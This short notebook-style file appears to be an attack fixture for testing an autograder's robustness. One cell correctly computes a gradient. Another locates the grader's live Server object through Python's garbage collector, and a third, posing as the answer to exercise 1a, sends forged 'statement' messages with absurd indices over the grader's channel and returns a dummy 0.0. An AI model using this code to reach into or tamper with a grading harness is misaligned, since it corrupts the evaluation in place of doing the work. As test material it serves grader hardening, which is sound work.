# /// attack
# tries = "reports statements of no cell, with absurd numbers, during a call"
# total = 2
# [parts]
# 2d = "right"
# 1a = "wrong"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import gc

from autograder.inside import serve

server = next(thing for thing in gc.get_objects() if isinstance(thing, serve.Server))

# %%
def aufgabe_1a(x, w, b, s, o, sigma, dsigma):
    for index in (-1, 10**9, 2**80, 1.5, "0", None, True):
        server.channel.send({"n": server.number, "k": "statement", "i": index})
    return 0.0
